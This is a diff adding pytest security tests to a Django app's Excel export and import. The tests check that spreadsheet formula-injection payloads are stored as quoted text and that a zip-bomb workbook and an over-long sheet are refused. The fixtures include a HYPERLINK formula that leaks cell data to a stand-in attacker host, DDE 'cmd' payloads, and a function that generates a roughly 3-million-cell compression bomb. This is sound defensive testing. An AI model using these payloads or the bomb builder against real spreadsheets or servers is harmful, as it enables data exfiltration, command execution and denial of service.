@@ -92,6 +92,31 @@ def test_an_agency_export_holds_only_its_rows(reported_plan, agency_b):
     assert book.sheetnames == [INFO_SHEET, "I", "III.A"]
 
 
+@pytest.mark.parametrize("hostile", [
+    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+])
+def test_excel_formula_injection_cells_are_written_as_text(reported_plan, hostile):
+    from theodoi.tracking.models import Task
+
+    Task.objects.filter(plan=reported_plan, code="I.1").update(name=hostile, result=hostile)
+    reported_plan.title = hostile
+    reported_plan.save(update_fields=["title"])
+    book = load_workbook(BytesIO(exported(reported_plan)))
+    ws = book["I"]
+    cols = header_index(ws)
+    for column in ("name", "result"):
+        cell = ws.cell(row=2, column=cols[column])
+        assert (cell.value, cell.data_type) == (hostile, "s")
+        assert cell.quotePrefix
+    title = book[INFO_SHEET]["B1"]
+    assert (title.value, title.data_type) == (hostile, "s")
+
+
 def test_sheet_names_follow_excel_rules():
     taken: set[str] = set()
     assert sheet_title("", taken) == "Chung"
@@ -198,3 +223,76 @@ def test_a_coordinator_may_report_for_any_agency(reported_plan, coordinator):
     result = import_progress(content, coordinator)
     assert result.ok
     assert result.reports[0].status == "cannot_do"
+
+
+# -- hostile workbooks ----------------------------------------------------------------------
+
+
+def bomb(content: bytes, cells: int, member: str = "xl/worksheets/sheet2.xml") -> bytes:
+    """The workbook with one sheet replaced by `cells` identical cells (15 per row).
+
+    Cells and rows without coordinates are valid OOXML, and identical XML compresses
+    about a thousand times: 3 million cells fit in well under 100 KB.
+    """
+    import zipfile
+
+    out = BytesIO()
+    with zipfile.ZipFile(BytesIO(content)) as src, zipfile.ZipFile(
+        out, "w", zipfile.ZIP_DEFLATED, compresslevel=9
+    ) as dst:
+        for info in src.infolist():
+            if info.filename != member:
+                dst.writestr(info.filename, src.read(info.filename))
+                continue
+            row = "<row>" + '<c t="n"><v>1</v></c>' * 15 + "</row>"
+            rows = cells // 15
+            with dst.open(member, "w") as fh:
+                fh.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://'
+                         b'schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
+                chunk = (row * 1000).encode()
+                for _ in range(rows // 1000):
+                    fh.write(chunk)
+                fh.write(b"</sheetData></worksheet>")
+    return out.getvalue()
+
+
+@pytest.mark.slow
+def test_excel_zip_bomb_is_refused_before_it_fills_memory(reported_plan, reporter_b):
+    import time
+    import tracemalloc
+
+    content = bomb(exported(reported_plan, reporter_b.profile.agency), 3_000_000)
+    assert len(content) < 400 * 1024  # the issue's file was 96 KB
+    before = ProgressReport.objects.count()
+    tracemalloc.start()
+    started = time.perf_counter()
+    try:
+        result = import_progress(content, reporter_b)
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert time.perf_counter() - started < 10
+    assert peak < 32 * 1024 * 1024, f"peak {peak // 2**20} MB"
+    assert [str(e) for e in result.errors] == [
+        "Tệp Excel bất thường: giải nén ra quá lớn (nghi là bom nén), từ chối đọc"]
+    assert ProgressReport.objects.count() == before
+
+
+def test_excel_import_refuses_a_workbook_past_the_row_limit(
+    reported_plan, reporter_b, monkeypatch
+):
+    from openpyxl import Workbook
+
+    import theodoi.outputs.excel as excel
+
+    monkeypatch.setattr(excel, "MAX_IMPORT_ROWS", 100)
+    book = Workbook()
+    ws = book.active
+    ws.append([c.header for c in excel.COLUMNS])
+    for n in range(500):
+        ws.append([n + 1, "I.1", "x", "", "", "", "", "", "", "", "", "Đã hoàn thành"])
+    out = BytesIO()
+    book.save(out)
+    result = import_progress(out.getvalue(), reporter_b)
+    assert [str(e) for e in result.errors] == [
+        "tệp quá lớn: tối đa 100 dòng và 1.000.000 ô; hãy dùng tệp xuất từ hệ thống"]
